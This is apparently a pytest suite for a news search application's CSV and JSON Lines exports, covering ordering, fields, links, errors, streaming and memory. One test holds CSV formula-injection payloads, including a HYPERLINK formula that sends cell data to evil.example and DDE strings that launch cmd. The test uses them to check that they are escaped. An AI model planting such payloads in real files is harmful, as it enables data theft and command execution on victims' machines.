"""Export of every match: /api/export.csv, /api/export.jsonl and `searchapp export`, against real
indexes (a small synthetic one; all of Reuters-21578 in the slow test)."""
from __future__ import annotations

import csv
import io
import json
import threading
import tracemalloc

import pytest

from searchapp.cli import main
from searchapp.search.export import BOM, COLUMNS
from searchapp.search.request import build_query
from searchapp.search.service import SearchService
from searchapp.web import create_app

from fixtures import build_index, make_articles


@pytest.fixture(scope="module")
def index_dir(tmp_path_factory):
    index_dir = tmp_path_factory.mktemp("export-index")
    build_index(index_dir, make_articles(80))
    return index_dir


@pytest.fixture(scope="module")
def app(index_dir):
    return create_app({"TESTING": True, "INDEX_DIR": str(index_dir)})


@pytest.fixture()
def client(app):
    return app.test_client()


def _search_ids(client, args: str) -> tuple[int, list[str]]:
    """The search's total and every id in its order, page by page through /api/search."""
    ids, page = [], 1
    while True:
        found = client.get(f"/api/search?{args}&per_page=100&page={page}").get_json()
        if not found["results"]:
            return found["total"], ids
        ids.extend(hit["id"] for hit in found["results"])
        page += 1


def _csv_rows(body: str) -> list[dict]:
    """The rows of a CSV export, which starts with a UTF-8 byte order mark (for Excel)."""
    assert body.startswith(BOM)
    return list(csv.DictReader(io.StringIO(body[1:])))


@pytest.mark.parametrize("args", [
    "q=oil",                                   # relevance
    "q=oil&sort=oldest",
    "person=Vladimir Putin&sort=newest",       # undated last
    "org=NATO&not_place=Moscow&from=2020&to=2021",
    "undated=only",
    "q=nosuchwordanywhere",
    "",
])
def test_csv_has_every_match_in_the_search_order(client, args):
    response = client.get(f"/api/export.csv?{args}")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    total, ids = _search_ids(client, args)
    body = response.get_data(as_text=True)
    assert body.splitlines()[0] == BOM + ",".join(COLUMNS)
    rows = _csv_rows(body)
    assert [row["id"] for row in rows] == ids
    assert len(rows) == total == int(response.headers["X-Total-Count"])


def _plain(snippet_html: str) -> str:
    import html

    return html.unescape(snippet_html.replace("<mark>", "").replace("</mark>", ""))


@pytest.mark.parametrize("args", ["q=oil", "q=oil prices&sort=oldest", "person=Vladimir Putin"])
def test_csv_cells_are_the_articles_fields(client, args):
    rows = {row["id"]: row for row in _csv_rows(client.get(f"/api/export.csv?{args}").get_data(as_text=True))}
    hits = {hit["id"]: hit for hit in client.get(f"/api/search?{args}&per_page=100").get_json()["results"]}
    assert rows and set(rows) == set(hits)
    for doc_id, row in rows.items():
        article = client.get(f"/api/articles/{doc_id}").get_json()
        assert row["title"] == article["title"] and row["url"] == article["url"]
        assert row["date"] == (article["date"] or "") and row["date_source"] == article["date_source"]
        assert row["first_indexed"] == article["first_indexed"]
        assert row["source"] == article["source"]
        for plural in ("persons", "places", "orgs"):
            assert [v for v in row[plural].split("; ") if v] == article[plural]
        assert row["link"] == f"http://localhost/articles/{doc_id}"
        assert client.get(row["link"].removeprefix("http://localhost")).status_code == 200
        # the search's snippet as the results page shows it, as plain text: no marks, no entities
        assert row["snippet"] == _plain(hits[doc_id]["snippet"]) and "<mark>" not in row["snippet"]


def test_without_a_query_the_snippet_is_the_opening(client):
    rows = _csv_rows(client.get("/api/export.csv?person=Vladimir Putin").get_data(as_text=True))
    for row in rows:
        text = " ".join(client.get(f"/api/articles/{row['id']}").get_json()["text"].split())
        assert text.startswith(row["snippet"].removesuffix(" …")) and 0 < len(row["snippet"]) <= 242


def test_bom_can_be_left_out_and_is_never_in_json_lines(client, index_dir, runner):
    with_bom = client.get("/api/export.csv?q=oil").data
    without = client.get("/api/export.csv?q=oil&bom=false").data
    assert with_bom.startswith(b"\xef\xbb\xbfid,") and with_bom[3:] == without
    assert client.get("/api/export.jsonl?q=oil").data.startswith(b'{"id"')
    assert client.get("/api/export.jsonl?q=oil&bom=true").data.startswith(b'{"id"')
    bad = client.get("/api/export.csv?bom=maybe")
    assert bad.status_code == 400 and bad.get_json()["error"]["param"] == "bom"
    printed = runner.invoke(main, ["export", "oil", "--no-bom", "--base-url", "http://localhost",
                                   "--index-dir", str(index_dir)])
    assert printed.exit_code == 0 and printed.stdout_bytes == without


def test_links_are_absolute_and_follow_the_request_and_the_cli_base(runner, tmp_path):
    from datetime import date

    from flask import url_for

    from fixtures import make_article

    odd = ["news/2024 a&b?c#d.txt", "Zoë/é l'été.txt", "plain"]
    build_index(tmp_path, [make_article(doc_id, f"Oil {n}", "Oil prices.", date(2020, 1, 1 + n))
                           for n, doc_id in enumerate(odd)])
    odd_app = create_app({"TESTING": True, "INDEX_DIR": str(tmp_path)})
    body = odd_app.test_client().get("/api/export.csv", base_url="https://news.example.org/archive/")
    rows = {row["id"]: row["link"] for row in _csv_rows(body.get_data(as_text=True))}
    with odd_app.test_request_context(base_url="https://news.example.org/archive/"):
        assert rows == {doc_id: url_for("pages.article", doc_id=doc_id, _external=True) for doc_id in odd}
    printed = runner.invoke(main, ["export", "--base-url", "https://news.example.org/archive/", "--format",
                                   "jsonl", "--index-dir", str(tmp_path)])
    assert {json.loads(line)["id"]: json.loads(line)["link"] for line in printed.stdout.splitlines()} == rows


def test_jsonl_records_add_text_and_mentions(client):
    response = client.get("/api/export.jsonl?person=Vladimir Putin&sort=oldest")
    assert response.status_code == 200
    assert response.mimetype == "application/x-ndjson"
    records = [json.loads(line) for line in response.get_data(as_text=True).splitlines()]
    total, ids = _search_ids(client, "person=Vladimir Putin&sort=oldest")
    assert [r["id"] for r in records] == ids and len(records) == total > 0
    for record in records:
        article = client.get(f"/api/articles/{record['id']}").get_json()
        assert list(record) == [*COLUMNS, "text", "mentions"]
        assert {key: article[key] for key in record if key not in ("link", "snippet")} == \
            {key: value for key, value in record.items() if key not in ("link", "snippet")}
        assert record["link"] == f"http://localhost/articles/{record['id']}" and record["snippet"]


def test_rows_show_the_entities_as_corrected(runner, tmp_path):
    """After the user's corrections (merge, hide, retype), an export names what the search and
    the article page name."""
    from datetime import date

    from fixtures import make_article

    build_index(tmp_path, [
        make_article("c1", "One", "Tony Blair and Cherie Blair in Newcastle.", date(2005, 1, 1),
                     persons=("Tony Blair", "Cherie Blair"), places=("Newcastle",)),
        make_article("c2", "Two", "Blair on Newsnight.", date(2005, 1, 2), persons=("Blair",), orgs=("Newsnight",)),
    ])
    for change in (["merge", "person", "Tony Blair", "Blair"], ["hide", "org", "Newsnight"],
                   ["retype", "place", "org", "Newcastle"]):
        done = runner.invoke(main, ["entities", *change, "--index-dir", str(tmp_path)])
        assert done.exit_code == 0, done.output
    client = create_app({"TESTING": True, "INDEX_DIR": str(tmp_path)}).test_client()
    records = [json.loads(line) for line in client.get("/api/export.jsonl").get_data(as_text=True).splitlines()]
    rows = {row["id"]: row for row in _csv_rows(client.get("/api/export.csv").get_data(as_text=True))}
    assert {r["id"]: (r["persons"], r["orgs"]) for r in records} == {
        "c1": (["Tony Blair", "Cherie Blair"], ["Newcastle"]), "c2": (["Tony Blair"], [])}
    for record in records:
        article = client.get(f"/api/articles/{record['id']}").get_json()
        assert {key: article[key] for key in record if key not in ("link", "snippet")} == \
            {key: value for key, value in record.items() if key not in ("link", "snippet")}
        assert rows[record["id"]]["persons"] == "; ".join(record["persons"])


HOSTILE_TITLES = {   # what a spreadsheet would run as a formula, by OWASP's list of first characters
    "h1": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "h2": "+1+cmd|' /C calc'!A0",
    "h3": "-2+3", "h4": "@SUM(1+1)*cmd|' /C calc'!A0", "h5": "\tTabbed", "h6": "\rCarriage",
}


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(runner, tmp_path):
    from datetime import date

    from fixtures import make_article

    articles = [make_article(doc_id, title, f"Oil news {n}. =Mallory said so.", date(2020, 1, 1 + n),
                             persons=("=Mallory",))
                for n, (doc_id, title) in enumerate(HOSTILE_TITLES.items())]
    articles.append(make_article("plain", "Oil - a plain title = fine", "Oil news.", date(2020, 2, 1),
                                 persons=("Ann Lee",)))
    build_index(tmp_path, articles)
    client = create_app({"TESTING": True, "INDEX_DIR": str(tmp_path)}).test_client()
    body = client.get("/api/export.csv?sort=oldest").get_data(as_text=True)
    rows = {row["id"]: row for row in _csv_rows(body)}
    for doc_id, title in HOSTILE_TITLES.items():
        assert rows[doc_id]["title"] == "'" + title
        assert rows[doc_id]["persons"] == "'=Mallory"
    assert rows["plain"]["title"] == "Oil - a plain title = fine" and rows["plain"]["persons"] == "Ann Lee"
    # JSON Lines is data, not a sheet: the values stay as they are
    records = {json.loads(line)["id"]: json.loads(line) for line in
               client.get("/api/export.jsonl").get_data(as_text=True).splitlines()}
    assert {doc_id: records[doc_id]["title"] for doc_id in HOSTILE_TITLES} == HOSTILE_TITLES
    printed = runner.invoke(main, ["export", "--sort", "oldest", "--format", "csv", "--index-dir", str(tmp_path),
                                   "--base-url", "http://localhost"])
    assert printed.exit_code == 0, printed.output
    assert printed.stdout_bytes == body.encode("utf-8")


def test_download_name_says_what_was_searched(client):
    response = client.get("/api/export.csv?q=Oil prices&person=Zoë Brandão&not_place=Moscow&from=2020&to=2020")
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="searchapp-oil-prices-person-zoe-brandao-not-place-moscow'
        '-from-2020-01-01-to-2020-12-31.csv"')
    assert client.get("/api/export.jsonl").headers["Content-Disposition"] == \
        'attachment; filename="searchapp-all-articles.jsonl"'


@pytest.mark.parametrize("url, param", [
    ("/api/export.csv?sort=best", "sort"),
    ("/api/export.jsonl?from=March", "from"),
    ("/api/export.csv?undated=only&from=2020", "undated"),
    ("/api/export.csv?q=" + "x" * 1001, "q"),
])
def test_bad_parameters_are_the_searchs_json_400(client, url, param):
    response = client.get(url)
    assert response.status_code == 400
    assert response.get_json()["error"]["param"] == param
    assert response.get_json() == client.get(url.replace("/api/export.csv", "/api/search")
                                              .replace("/api/export.jsonl", "/api/search")).get_json()


def test_unknown_format_is_a_json_404(client):
    response = client.get("/api/export.xml?q=oil")
    assert response.status_code == 404 and response.get_json()["error"]["code"] == "not_found"


def test_missing_index_is_a_503_before_any_row(tmp_path):
    response = create_app({"TESTING": True, "INDEX_DIR": str(tmp_path)}).test_client().get("/api/export.csv")
    assert response.status_code == 503 and response.get_json()["error"]["code"] == "index_missing"


def test_an_export_gives_its_searcher_back_when_closed(index_dir):
    # A service of its own: the module's app also serves the other tests' streamed responses,
    # which the test client leaves open (holding a reader) until they are collected.
    service = SearchService(index_dir)
    export = service.export(build_query("oil"), "csv")
    assert export.total > 0 and next(iter(export)).startswith(BOM + "id,")
    with service._lock:
        assert len(service._readers) == 1       # held while the export is being read
    export.close()
    with service._lock:
        assert service._readers == {}
    service.close()


def test_results_page_links_both_exports_with_its_search(client):
    html = client.get("/?q=oil&person=Vladimir+Putin&sort=oldest&page=2").get_data(as_text=True)
    assert 'href="/api/export.csv?q=oil&amp;person=Vladimir+Putin&amp;sort=oldest"' in html
    assert 'href="/api/export.jsonl?q=oil&amp;person=Vladimir+Putin&amp;sort=oldest"' in html


def test_cli_writes_what_the_api_streams(client, index_dir, runner, tmp_path):
    for fmt in ("csv", "jsonl"):
        api = client.get(f"/api/export.{fmt}?q=oil&person=Vladimir Putin&from=2019").get_data(as_text=True)
        printed = runner.invoke(main, ["export", "oil", "--person", "Vladimir Putin", "--from", "2019",
                                       "--format", fmt, "--index-dir", str(index_dir),
                                       "--base-url", "http://localhost"])
        assert printed.exit_code == 0, printed.output
        assert printed.stdout_bytes == api.encode("utf-8")
        target = tmp_path / f"out.{fmt}"
        written = runner.invoke(main, ["export", "oil", "--person", "Vladimir Putin", "--from", "2019",
                                       "--format", fmt, "--index-dir", str(index_dir), "-o", str(target),
                                       "--progress", "--base-url", "http://localhost/"])
        assert written.exit_code == 0, written.output
        assert target.read_bytes() == api.encode("utf-8")
        assert "exporting" in written.stderr and f"articles written to {target}" in written.stderr


def test_cli_bad_option_is_one_message(index_dir, runner):
    result = runner.invoke(main, ["export", "--from", "March", "--index-dir", str(index_dir)])
    assert result.exit_code == 1
    assert "'from'" in result.output and "no year" in result.output


def test_openapi_describes_the_exports_and_their_records(client):
    import jsonschema
    from openapi_spec_validator import validate

    document = client.get("/api/openapi.json").get_json()
    validate(document)
    search_params = {p["name"] for p in document["paths"]["/api/search"]["get"]["parameters"]}
    for path, extra in (("/api/export.csv", {"bom"}), ("/api/export.jsonl", set())):
        names = {p["name"] for p in document["paths"][path]["get"]["parameters"]}
        assert names == search_params - {"page", "per_page"} | extra
    feed = document["paths"]["/feeds/search.atom"]["get"]
    assert {p["name"] for p in feed["parameters"]} == search_params - {"page", "per_page", "sort"}
    schema = document["paths"]["/api/export.jsonl"]["get"]["responses"]["200"]["content"]["application/x-ndjson"]["schema"]
    lines = client.get("/api/export.jsonl?q=oil").get_data(as_text=True).splitlines()
    assert lines and schema["type"] == "array"   # the lines in order, as the schema describes them
    jsonschema.validate([json.loads(line) for line in lines], {**schema, "components": document["components"]})


def test_gunicorn_streams_the_export(client, index_dir, tmp_path):
    import urllib.request

    from test_gunicorn import gunicorn

    with gunicorn(index_dir, tmp_path / "gunicorn.log", workers=1) as server:
        # links back to the articles name the host the export was asked of
        expected = client.get("/api/export.jsonl?q=oil", base_url=server["base"]).data
        with urllib.request.urlopen(server["base"] + "/api/export.jsonl?q=oil", timeout=10) as response:
            assert response.headers["Transfer-Encoding"] == "chunked"
            assert response.read() == expected
        # A reader that leaves after one line does not hold the worker's searcher or break it.
        with urllib.request.urlopen(server["base"] + "/api/export.csv", timeout=10) as response:
            assert response.readline().startswith(b"\xef\xbb\xbfid,title")
        with urllib.request.urlopen(server["base"] + "/api/export.jsonl?q=oil", timeout=10) as response:
            assert response.read() == expected


@pytest.mark.parametrize("args", ["", "q=oil", "place=Japan&sort=oldest", "q=bank rates&from=1987-03",
                                  "org=OPEC&not_place=Saudi Arabia"])
def test_corpus_export_rows_equal_the_search_total(corpus_index_dir, args):
    """The seed article and reut2-000 (1,000 Reuters articles, through the real pipeline)."""
    client = create_app({"TESTING": True, "INDEX_DIR": str(corpus_index_dir)}).test_client()
    total, ids = _search_ids(client, args)
    rows = _csv_rows(client.get(f"/api/export.csv?{args}").get_data(as_text=True))
    assert [row["id"] for row in rows] == ids and len(rows) == total > 0


# All of Reuters-21578: the counts against the search, and memory that does not grow with the rows


# reuters_index_dir: conftest.py (shared with the trends' slow test, built once)

# Building the index (spaCy over 21,578 articles) takes 5 minutes on 2 idle cores, more when shared.
REUTERS_TIMEOUT = 2400


@pytest.mark.slow
@pytest.mark.timeout(REUTERS_TIMEOUT)
@pytest.mark.parametrize("args", ["", "q=oil", "place=Japan&sort=oldest", "q=bank rates&from=1987-03"])
def test_reuters_export_rows_equal_the_search_total(reuters_index_dir, args):
    client = create_app({"TESTING": True, "INDEX_DIR": str(reuters_index_dir)}).test_client()
    total = client.get(f"/api/search?{args}").get_json()["total"]
    rows = _csv_rows(client.get(f"/api/export.csv?{args}").get_data(as_text=True))
    assert len(rows) == total > 0
    assert len({row["id"] for row in rows}) == total


@pytest.mark.slow
@pytest.mark.timeout(REUTERS_TIMEOUT)
def test_reuters_export_memory_stays_flat(reuters_index_dir):
    """Every Reuters article through JSON Lines: the output is ~25 MB; the peak Python memory
    while writing it is bounded by one row, not by the rows written."""
    export = SearchService(reuters_index_dir).export(build_query(""), "jsonl")
    # Opening the index starts its checksum pass in a thread (1 MB reads, the whole word table):
    # what it holds is not the export's, and tracemalloc counts every thread.
    for thread in threading.enumerate():
        if thread.name == "index-check":
            thread.join()
    written = rows = 0
    tracemalloc.start()
    try:
        with export:
            for line in export:
                written += len(line.encode("utf-8"))
                rows += 1
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert rows == export.total > 20_000
    assert peak < written / 20, (peak, written)
